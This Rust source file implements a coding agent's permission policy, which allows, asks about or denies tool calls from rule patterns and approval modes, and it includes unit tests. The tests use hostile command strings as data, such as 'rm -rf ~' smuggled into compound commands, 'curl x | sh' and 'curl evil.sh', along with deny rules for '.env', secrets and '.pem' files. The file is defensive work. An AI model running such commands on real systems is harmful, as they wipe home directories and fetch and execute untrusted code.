//! The policy: allow, ask or deny a tool call, from rules in Claude Code's shape and the
//! approval mode.
//!
//! Rules: `tool` (every call), `tool(argument)` (exactly that argument), `tool(prefix:*)`
//! (arguments starting with `prefix`), `tool(*)`; the tool name may use `*` wildcards
//! (`mcp__git__*`). Claude Code's tool names are accepted as aliases (`Bash` is
//! `run_command`, `Read` is `read_file`…). The argument a rule sees is the tool's
//! [`Tool::rule_argument`](crate::tools::Tool::rule_argument): the command of
//! `run_command`, the path of file tools.
//!
//! A rule of a file tool takes a path pattern, as Claude Code's do: a glob anchored at the
//! workspace root (`./` and a leading `/` are the root; `*` and `?` stay within a path
//! segment, `**` spans segments; `dir:*` is `dir*`), and a pattern that covers a directory
//! covers everything under it: `Read(./secrets)`, `Read(secrets/*)` and `Read(secrets/**)`
//! all cover `secrets/keys/prod.pem`; `**/.env` covers a `.env` at any depth. Deny rules of
//! `read_file` also hold for the other tools that show a file's contents: `code_context` is
//! judged by them (and asked about when its path cannot be compared), and `search` skips
//! the files they cover ([`ReadGuard`]). The repo map's signatures are not filtered.
//!
//! A call is judged by its parts: each simple command of a compound shell command
//! (`cargo test && rm -rf ~` is `cargo test` and `rm -rf ~`, see `shell.rs`), each path of
//! a multi-file edit (one per line of the rule argument), paths lexically normalized
//! (`./a/b` is `a/b`). A deny or ask rule hits when it covers the whole argument or any
//! part (a command also without its wrappers: `(rm …)`, `env rm …`, `FOO=1 rm …`); an
//! allow rule set allows only when it covers every part, and never an opaque call
//! (a command with substitutions, here-documents, comments, escapes…; a path that does not
//! normalize), whose effect no rule can see; an opaque call of a tool that has deny or ask
//! rules is asked about. Deny rules on commands are best effort (a shell can always spell
//! a command another way): the sandbox, not the rules, is the boundary.
//!
//! An "allow for session" answer spares later questions about the same action (see
//! [`grant_key`](crate::approval::grant_key)), but never one an ask rule asks
//! ([`Policy::asked_by_rule`]): the user wrote it to be asked every time.
//!
//! Order (deny wins): a deny rule denies; read-only mode denies anything that is not
//! read-only (MCP tools marked read-only are asked about); an ask rule asks; a command on
//! the host (no isolating sandbox) asks, every time; an allow rule allows; then the mode
//! decides: read-only tools are allowed, `ask` asks for the rest, `auto` allows workspace
//! edits, sandboxed commands and MCP tools marked read-only, and asks for tools that act
//! outside (MCP tools not marked read-only).

use crate::error::AgentError;
use crate::shell;
use crate::tools::ToolKind;
use lathe_protocol::config::{ApprovalMode, PolicyConfig};
use lathe_protocol::skill::tool_pattern_matches;
use std::sync::Arc;

/// Claude Code's tool names and the built-in tools they mean.
const ALIASES: [(&str, &str); 7] = [
    ("Bash", "run_command"),
    ("Read", "read_file"),
    ("Edit", "edit_file"),
    ("MultiEdit", "edit_file"),
    ("Write", "write_file"),
    ("Grep", "search"),
    ("Glob", "list_files"),
];

#[derive(Clone, Debug, PartialEq, Eq)]
enum ArgPattern {
    Any,
    Exact(String),
    Prefix(String),
    Path(PathPattern),
}

/// A path glob of a file tool's rule (see the module header).
#[derive(Clone, Debug)]
struct PathPattern {
    glob: globset::Glob,
    matcher: globset::GlobMatcher,
}

impl PartialEq for PathPattern {
    fn eq(&self, other: &Self) -> bool {
        self.glob == other.glob
    }
}

impl Eq for PathPattern {}

impl PathPattern {
    fn parse(text: &str) -> Result<PathPattern, String> {
        let text = text.trim();
        let text = text
            .strip_suffix(":*")
            .map_or(text.to_owned(), |p| format!("{p}*"));
        let mut anchored = text.trim_start_matches("./").trim_start_matches('/');
        anchored = anchored.trim_end_matches('/');
        if anchored.is_empty() || anchored == "." {
            anchored = "**";
        }
        let glob = globset::GlobBuilder::new(anchored)
            .literal_separator(true)
            .build()
            .map_err(|e| format!("not a path pattern: {e}"))?;
        Ok(PathPattern {
            matcher: glob.compile_matcher(),
            glob,
        })
    }

    /// Whether the pattern covers a normalized workspace-relative path: the path itself or
    /// a directory above it.
    fn covers(&self, path: &str) -> bool {
        let mut prefix = path;
        loop {
            if self.matcher.is_match(prefix) {
                return true;
            }
            match prefix.rfind('/') {
                Some(at) => prefix = &prefix[..at],
                None => return false,
            }
        }
    }
}

/// One parsed rule.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Rule {
    tool: String,
    argument: ArgPattern,
}

impl Rule {
    /// Parses `tool`, `tool(arg)`, `tool(prefix:*)` or `tool(*)`.
    pub fn parse(text: &str) -> Result<Rule, AgentError> {
        let invalid = |reason: &str| AgentError::InvalidRule {
            rule: text.to_owned(),
            reason: reason.to_owned(),
        };
        let text = text.trim();
        let (tool, argument) = match text.split_once('(') {
            None => (text, ArgPattern::Any),
            Some((tool, rest)) => {
                let inner = rest
                    .strip_suffix(')')
                    .ok_or_else(|| invalid("missing the closing parenthesis"))?;
                let argument = if inner == "*" || inner.is_empty() {
                    ArgPattern::Any
                } else if PATH_TOOLS.contains(&resolve_alias(tool.trim())) {
                    ArgPattern::Path(PathPattern::parse(inner).map_err(|e| invalid(&e))?)
                } else if let Some(prefix) = inner.strip_suffix(":*") {
                    ArgPattern::Prefix(prefix.to_owned())
                } else if let Some(prefix) = inner.strip_suffix('*') {
                    ArgPattern::Prefix(prefix.to_owned())
                } else {
                    ArgPattern::Exact(inner.to_owned())
                };
                (tool.trim(), argument)
            }
        };
        if tool.is_empty() {
            return Err(invalid("no tool name"));
        }
        let tool = resolve_alias(tool);
        Ok(Rule {
            tool: tool.to_owned(),
            argument,
        })
    }

    /// Whether the rule is about `tool` (whatever the argument).
    pub fn names(&self, tool: &str) -> bool {
        tool_pattern_matches(&self.tool, tool)
    }

    /// Whether the rule covers a call of `tool` with `argument`.
    pub fn matches(&self, tool: &str, argument: Option<&str>) -> bool {
        if !tool_pattern_matches(&self.tool, tool) {
            return false;
        }
        match (&self.argument, argument) {
            (ArgPattern::Any, _) => true,
            (ArgPattern::Exact(want), Some(got)) => want == got.trim(),
            (ArgPattern::Path(pattern), Some(got)) => pattern.covers(got.trim()),
            (ArgPattern::Prefix(prefix), Some(got)) => {
                let got = got.trim_start();
                got.strip_prefix(prefix.as_str()).is_some_and(|rest| {
                    rest.is_empty() || prefix.ends_with(' ') || rest.starts_with(' ')
                })
            }
            (_, None) => false,
        }
    }
}

/// The built-in tool a Claude Code tool name means, or the name itself.
fn resolve_alias(tool: &str) -> &str {
    ALIASES
        .iter()
        .find(|(alias, _)| *alias == tool)
        .map_or(tool, |(_, name)| name)
}

/// The policy's verdict on a call.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Verdict {
    Allow,
    Ask,
    /// Denied, with the reason the model is told.
    Deny(String),
}

/// Rules plus a mode.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Policy {
    mode: ApprovalMode,
    allow: Vec<Rule>,
    ask: Vec<Rule>,
    deny: Vec<Rule>,
}

impl Policy {
    /// The policy of a configuration (every rule must parse).
    pub fn from_config(config: &PolicyConfig) -> Result<Policy, AgentError> {
        let parse = |rules: &[String]| -> Result<Vec<Rule>, AgentError> {
            rules.iter().map(|r| Rule::parse(r)).collect()
        };
        Ok(Policy {
            mode: config.mode,
            allow: parse(&config.allow)?,
            ask: parse(&config.ask)?,
            deny: parse(&config.deny)?,
        })
    }

    /// The same rules under another mode.
    pub fn with_mode(mut self, mode: ApprovalMode) -> Policy {
        self.mode = mode;
        self
    }

    pub fn mode(&self) -> ApprovalMode {
        self.mode
    }

    /// Whether an ask rule covers the call (so that it is asked about every time).
    pub fn asked_by_rule(&self, tool: &str, argument: Option<&str>) -> bool {
        Parts::of(tool, argument).any_covered(&self.ask, tool)
    }

    /// The guard of this policy's `read_file` deny rules.
    pub fn read_guard(&self) -> ReadGuard {
        ReadGuard {
            deny: self
                .deny
                .iter()
                .filter(|r| r.names("read_file"))
                .cloned()
                .collect(),
        }
    }

    /// Judges a call. `isolated` says whether commands run in an isolating sandbox.
    pub fn decide(
        &self,
        tool: &str,
        kind: ToolKind,
        argument: Option<&str>,
        isolated: bool,
    ) -> Verdict {
        let parts = Parts::of(tool, argument);
        let hit = |rules: &[Rule]| parts.any_covered(rules, tool);
        let read_denied =
            SHOWS_CONTENTS.contains(&tool) && parts.any_covered(&self.deny, "read_file");
        if hit(&self.deny) || read_denied {
            return Verdict::Deny(format!(
                "`{}` is denied by a policy rule",
                action(tool, argument)
            ));
        }
        if self.mode == ApprovalMode::ReadOnly && !kind.reads_only() {
            return Verdict::Deny(format!(
                "`{tool}` changes things and this session is read-only"
            ));
        }
        if hit(&self.ask) {
            return Verdict::Ask;
        }
        // Deny and ask rules for this tool cannot see inside an opaque call: the user is.
        let judged = |rules: &[Rule]| rules.iter().any(|r| r.names(tool));
        let read_judged =
            SHOWS_CONTENTS.contains(&tool) && self.deny.iter().any(|r| r.names("read_file"));
        if parts.opaque && (judged(&self.deny) || judged(&self.ask) || read_judged) {
            return Verdict::Ask;
        }
        if kind == ToolKind::Command && !isolated {
            return Verdict::Ask;
        }
        if parts.all_covered(&self.allow, tool) {
            return Verdict::Allow;
        }
        match (self.mode, kind) {
            (_, ToolKind::ReadOnly) => Verdict::Allow,
            (
                ApprovalMode::Auto,
                ToolKind::WorkspaceWrite | ToolKind::Command | ToolKind::ExternalReadOnly,
            ) => Verdict::Allow,
            _ => Verdict::Ask,
        }
    }
}

/// What the deny rules of `read_file` hide from tools that read many files (`search`):
/// they skip a file the guard hides, as if it were not there.
#[derive(Clone, Debug, Default)]
pub struct ReadGuard {
    deny: Arc<[Rule]>,
}

impl ReadGuard {
    /// Whether a normalized workspace-relative path is hidden.
    pub fn hides(&self, path: &str) -> bool {
        self.deny.iter().any(|r| r.matches("read_file", Some(path)))
    }
}

/// Tools other than `read_file` whose results show a file's contents, by the path they are
/// given.
const SHOWS_CONTENTS: [&str; 1] = ["code_context"];

/// Tools whose rule argument is workspace paths, one per line.
const PATH_TOOLS: [&str; 7] = [
    "read_file",
    "list_files",
    "code_context",
    "edit_file",
    "apply_patch",
    "write_file",
    "repo_map",
];

/// What rules judge of one call (see the module header).
#[derive(Debug, PartialEq, Eq)]
struct Parts {
    /// The whole argument, when there is one.
    whole: Option<String>,
    /// Empty when the call has no argument.
    parts: Vec<String>,
    /// A command does something no rule can see: no allow rule covers it.
    opaque: bool,
}

impl Parts {
    fn of(tool: &str, argument: Option<&str>) -> Parts {
        let whole = argument.map(str::to_owned);
        let Some(argument) = argument else {
            return Parts {
                whole,
                parts: Vec::new(),
                opaque: false,
            };
        };
        if tool == "run_command" {
            let split = shell::split(argument);
            return Parts {
                whole,
                parts: split.parts,
                opaque: split.opaque,
            };
        }
        if !PATH_TOOLS.contains(&tool) {
            return Parts {
                whole,
                parts: vec![argument.to_owned()],
                opaque: false,
            };
        }
        // A path that does not normalize (absolute, `..`) cannot be compared with rules.
        let mut opaque = false;
        let parts = argument
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| {
                lathe_edits::normalize_relative_path(l).unwrap_or_else(|_| {
                    opaque = true;
                    l.trim().to_owned()
                })
            })
            .collect();
        Parts {
            whole,
            parts,
            opaque,
        }
    }

    /// Whether a rule covers the whole call or any part of it (for deny and ask rules),
    /// commands also by what they run without their wrappers.
    fn any_covered(&self, rules: &[Rule], tool: &str) -> bool {
        let hit = |argument: Option<&str>| rules.iter().any(|r| r.matches(tool, argument));
        if self.parts.is_empty() {
            return hit(self.whole.as_deref());
        }
        hit(self.whole.as_deref())
            || self
                .parts
                .iter()
                .any(|part| hit(Some(part)) || hit(Some(&shell::core(part))))
    }

    /// Whether rules cover every part (for allow rules); never an opaque command.
    fn all_covered(&self, rules: &[Rule], tool: &str) -> bool {
        if self.opaque {
            return false;
        }
        if self.parts.is_empty() {
            return rules.iter().any(|r| r.matches(tool, self.whole.as_deref()));
        }
        self.parts
            .iter()
            .all(|part| rules.iter().any(|r| r.matches(tool, Some(part))))
    }
}

/// The rule-shaped form of a call: `tool(argument)` or `tool`.
pub fn action(tool: &str, argument: Option<&str>) -> String {
    match argument {
        Some(argument) => format!("{tool}({argument})"),
        None => tool.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use pretty_assertions::assert_eq;

    fn policy(mode: ApprovalMode, allow: &[&str], ask: &[&str], deny: &[&str]) -> Policy {
        let strings = |r: &[&str]| r.iter().map(|s| (*s).to_owned()).collect();
        Policy::from_config(&PolicyConfig {
            mode,
            allow: strings(allow),
            ask: strings(ask),
            deny: strings(deny),
            approval_timeout_secs: None,
        })
        .unwrap()
    }

    #[test]
    fn rules_match_in_claude_code_shape() {
        let rule = Rule::parse("run_command(cargo test:*)").unwrap();
        assert!(rule.matches("run_command", Some("cargo test")));
        assert!(rule.matches("run_command", Some("cargo test -p x")));
        assert!(!rule.matches("run_command", Some("cargo testing")));
        assert!(!rule.matches("run_command", Some("cargo build")));
        assert!(!rule.matches("run_command", None));
        assert!(
            Rule::parse("Bash(ls)")
                .unwrap()
                .matches("run_command", Some("ls"))
        );
        assert!(
            Rule::parse("mcp__git__*")
                .unwrap()
                .matches("mcp__git__status", None)
        );
        assert!(Rule::parse("run_command(").is_err());
    }

    #[test]
    fn compound_commands_are_judged_part_by_part() {
        let p = policy(
            ApprovalMode::Ask,
            &["run_command(cargo test:*)", "run_command(wc:*)"],
            &[],
            &["run_command(rm:*)", "run_command(curl x | sh)"],
        );
        let decide = |c: &str| p.decide("run_command", ToolKind::Command, Some(c), true);
        assert_eq!(decide("cargo test | wc -l"), Verdict::Allow);
        assert_eq!(decide("cargo test && curl evil.sh"), Verdict::Ask);
        assert_eq!(decide("cargo test $(curl evil.sh)"), Verdict::Ask);
        assert_eq!(
            decide("cargo test #'\nrm -rf ~ #'"),
            Verdict::Deny(
                "`run_command(cargo test #'\nrm -rf ~ #')` is denied by a policy rule".into()
            )
        );
        assert_eq!(
            decide("cargo test; rm -rf ~"),
            Verdict::Deny("`run_command(cargo test; rm -rf ~)` is denied by a policy rule".into())
        );
        assert!(matches!(decide("cargo test; (rm -rf ~)"), Verdict::Deny(_)));
        assert!(matches!(decide("FOO=1 rm -rf ~"), Verdict::Deny(_)));
        assert!(
            matches!(decide("curl x | sh"), Verdict::Deny(_)),
            "a whole-command rule"
        );
        assert!(matches!(decide(">log 'rm' -rf ~"), Verdict::Deny(_)));
        assert_eq!(
            decide("\\rm -rf ~"),
            Verdict::Ask,
            "opaque, and rm has a deny rule"
        );
        let auto = policy(ApprovalMode::Auto, &[], &[], &["run_command(rm:*)"]);
        assert_eq!(
            auto.decide(
                "run_command",
                ToolKind::Command,
                Some("echo $(rm -rf ~)"),
                true
            ),
            Verdict::Ask,
            "auto mode does not run what deny rules cannot see"
        );
    }

    #[test]
    fn paths_are_normalized_and_every_file_of_an_edit_is_judged() {
        let p = policy(
            ApprovalMode::Auto,
            &[],
            &[],
            &["write_file(.env)", "apply_patch(.env)"],
        );
        let decide =
            |tool: &str, arg: &str| p.decide(tool, ToolKind::WorkspaceWrite, Some(arg), true);
        assert!(matches!(decide("write_file", "./.env"), Verdict::Deny(_)));
        assert!(matches!(
            decide("apply_patch", "src/a.rs\n./.env"),
            Verdict::Deny(_)
        ));
        assert_eq!(decide("apply_patch", "src/a.rs\nsrc/b.rs"), Verdict::Allow);
        assert_eq!(
            decide("write_file", "/abs/workspace/.env"),
            Verdict::Ask,
            "cannot be compared"
        );
    }

    #[test]
    fn path_rules_are_globs_that_cover_what_is_under_them() {
        let p = policy(
            ApprovalMode::Auto,
            &["Edit(src/**)"],
            &[],
            &[
                "Read(./.env)",
                "read_file(secrets/*)",
                "Read(keys:*)",
                "write_file(**/*.pem)",
            ],
        );
        let read = |arg: &str| p.decide("read_file", ToolKind::ReadOnly, Some(arg), true);
        assert!(matches!(read(".env"), Verdict::Deny(_)));
        assert!(matches!(read("./.env"), Verdict::Deny(_)));
        assert_eq!(read("config/.env"), Verdict::Allow, "anchored at the root");
        assert!(matches!(read("secrets/prod/key"), Verdict::Deny(_)));
        assert!(matches!(read("keys.txt"), Verdict::Deny(_)));
        assert_eq!(read("src/secrets/x"), Verdict::Allow);
        assert!(matches!(
            p.decide(
                "code_context",
                ToolKind::ReadOnly,
                Some("secrets/a.rs"),
                true
            ),
            Verdict::Deny(_)
        ));
        assert_eq!(
            p.decide(
                "code_context",
                ToolKind::ReadOnly,
                Some("/ws/secrets/a.rs"),
                true
            ),
            Verdict::Ask,
            "an absolute path read_file rules cannot see is asked about"
        );
        let write = |arg: &str| p.decide("write_file", ToolKind::WorkspaceWrite, Some(arg), true);
        assert!(matches!(write("deploy/tls/site.pem"), Verdict::Deny(_)));
        let ask = policy(ApprovalMode::Ask, &["Edit(src/**)"], &[], &[]);
        let edit = |arg: &str| ask.decide("edit_file", ToolKind::WorkspaceWrite, Some(arg), true);
        assert_eq!(edit("src/deep/a.rs"), Verdict::Allow);
        assert_eq!(edit("src/../Cargo.toml"), Verdict::Ask);
        assert_eq!(edit("srcx/a.rs"), Verdict::Ask);
        assert!(p.read_guard().hides("secrets/x"));
        assert!(!p.read_guard().hides("src/x"));
        assert!(Rule::parse("Read([)").is_err());
    }

    #[test]
    fn verdicts_by_mode_and_rules_with_deny_winning() {
        let cases = [
            (
                ApprovalMode::Ask,
                "read_file",
                ToolKind::ReadOnly,
                None,
                true,
                Verdict::Allow,
            ),
            (
                ApprovalMode::Ask,
                "write_file",
                ToolKind::WorkspaceWrite,
                Some("a.rs"),
                true,
                Verdict::Ask,
            ),
            (
                ApprovalMode::Auto,
                "write_file",
                ToolKind::WorkspaceWrite,
                Some("a.rs"),
                true,
                Verdict::Allow,
            ),
            (
                ApprovalMode::Auto,
                "run_command",
                ToolKind::Command,
                Some("make"),
                true,
                Verdict::Allow,
            ),
            (
                ApprovalMode::Auto,
                "run_command",
                ToolKind::Command,
                Some("make"),
                false,
                Verdict::Ask,
            ),
            (
                ApprovalMode::Auto,
                "mcp__x__y",
                ToolKind::External,
                None,
                true,
                Verdict::Ask,
            ),
            (
                ApprovalMode::Auto,
                "mcp__x__read",
                ToolKind::ExternalReadOnly,
                None,
                true,
                Verdict::Allow,
            ),
            (
                ApprovalMode::Ask,
                "mcp__x__read",
                ToolKind::ExternalReadOnly,
                None,
                true,
                Verdict::Ask,
            ),
            (
                ApprovalMode::ReadOnly,
                "mcp__x__read",
                ToolKind::ExternalReadOnly,
                None,
                true,
                Verdict::Ask,
            ),
            (
                ApprovalMode::ReadOnly,
                "mcp__x__deploy",
                ToolKind::External,
                None,
                true,
                Verdict::Deny(
                    "`mcp__x__deploy` changes things and this session is read-only".into(),
                ),
            ),
            (
                ApprovalMode::Ask,
                "run_command",
                ToolKind::Command,
                Some("cargo test -q"),
                true,
                Verdict::Allow,
            ),
            (
                ApprovalMode::Ask,
                "run_command",
                ToolKind::Command,
                Some("cargo test -q"),
                false,
                Verdict::Ask,
            ),
            (
                ApprovalMode::Auto,
                "run_command",
                ToolKind::Command,
                Some("cargo test --release"),
                true,
                Verdict::Deny(
                    "`run_command(cargo test --release)` is denied by a policy rule".into(),
                ),
            ),
            (
                ApprovalMode::ReadOnly,
                "write_file",
                ToolKind::WorkspaceWrite,
                Some("a.rs"),
                true,
                Verdict::Deny("`write_file` changes things and this session is read-only".into()),
            ),
            (
                ApprovalMode::Auto,
                "run_command",
                ToolKind::Command,
                Some("git push"),
                true,
                Verdict::Ask,
            ),
        ];
        let p = |mode| {
            policy(
                mode,
                &["run_command(cargo test:*)"],
                &["run_command(git push:*)"],
                &["run_command(cargo test --release)"],
            )
        };
        for (mode, tool, kind, arg, isolated, want) in cases {
            assert_eq!(
                p(mode).decide(tool, kind, arg, isolated),
                want,
                "{mode:?} {tool} {arg:?}"
            );
        }
    }
}
